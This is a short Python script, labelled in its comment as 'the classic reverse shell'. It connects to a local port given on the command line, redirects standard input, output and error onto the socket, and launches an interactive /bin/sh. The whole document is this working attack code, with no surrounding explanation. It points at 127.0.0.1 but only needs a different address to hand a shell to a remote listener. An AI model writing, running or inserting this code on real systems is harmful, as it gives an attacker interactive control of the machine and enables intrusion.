# The classic reverse shell: connect out, hand the socket to a shell.
import os
import socket
import sys

s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=2)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
